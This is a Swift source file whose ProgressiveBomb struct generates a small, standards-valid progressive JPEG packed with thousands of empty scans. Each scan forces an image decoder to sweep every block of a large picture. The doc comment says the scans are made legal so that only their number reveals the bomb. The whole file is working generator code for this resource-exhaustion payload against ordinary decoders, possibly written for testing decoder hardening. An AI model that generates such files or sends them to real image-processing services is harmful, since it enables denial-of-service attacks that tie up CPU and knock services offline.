/// A small progressive file of thousands of valid, empty scans over a large picture: each costs its decoder a pass over all blocks.
/// Spectral selection one coefficient at a time and successive approximation one bit at a time make the scans legal, so that
/// nothing but their number gives the bomb away.
struct ProgressiveBomb {
    let side: Int
    let scans: Int

    /// `side` × `side` pixels, 4:4:4.
    func jpeg() -> [UInt8] {
        let blocks = (side / 8) * (side / 8)
        var file: [UInt8] = [0xFF, 0xD8]
        file += segment(0xDB, [0] + [UInt8](repeating: 16, count: 64))
        let sides = [side >> 8, side & 0xFF].map(UInt8.init)
        file += segment(0xC2, [8] + sides + sides + [3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0])
        // DC: the one code "0" means no difference. AC: 15 codes of four bits, EOB0…EOB14 (ITU-T T.81, G.1.2.2).
        file += segment(0xC4, [0x00] + codeLengths(1, count: 1) + [0x00])
        file += segment(0xC4, [0x10] + codeLengths(4, count: 15) + (0..<15).map { UInt8($0 << 4) })

        file += segment(0xDA, [3, 1, 0, 2, 0, 3, 0, 0, 0, 0])
        file += [UInt8](repeating: 0, count: blocks * 3 / 8)
        let emptyScan = endOfBandRuns(blocks)
        var remaining = scans - 1
        for component: UInt8 in 1...3 {
            for coefficient: UInt8 in 1...63 {
                for low: UInt8 in (0...13).reversed() where remaining > 0 {
                    let high = low == 13 ? 0 : low + 1
                    file += segment(0xDA, [1, component, 0, coefficient, coefficient, high << 4 | low]) + emptyScan
                    remaining -= 1
                }
            }
        }
        return file + [0xFF, 0xD9]
    }

    private func segment(_ marker: UInt8, _ content: [UInt8]) -> [UInt8] {
        let length = content.count + 2
        return [0xFF, marker, UInt8(length >> 8), UInt8(length & 0xFF)] + content
    }

    private func codeLengths(_ length: Int, count: UInt8) -> [UInt8] {
        var counts = [UInt8](repeating: 0, count: 16)
        counts[length - 1] = count
        return counts
    }

    /// "This many blocks have nothing here": EOBn stands for 2ⁿ blocks plus an n-bit number of further ones.
    private func endOfBandRuns(_ blocks: Int) -> [UInt8] {
        var bits: [UInt8] = []
        func append(_ value: Int, _ count: Int) {
            bits += (0..<count).reversed().map { UInt8(value >> $0 & 1) }
        }
        var remaining = blocks
        while remaining > 0 {
            let run = min(remaining, 32_767)
            let exponent = Int.bitWidth - 1 - run.leadingZeroBitCount
            append(exponent, 4)
            append(run - (1 << exponent), exponent)
            remaining -= run
        }
        bits += [UInt8](repeating: 1, count: (8 - bits.count % 8) % 8)
        return stride(from: 0, to: bits.count, by: 8).flatMap { start -> [UInt8] in
            let byte = bits[start..<start + 8].reduce(0) { $0 << 1 | $1 }
            return byte == 0xFF ? [0xFF, 0x00] : [byte]
        }
    }
}
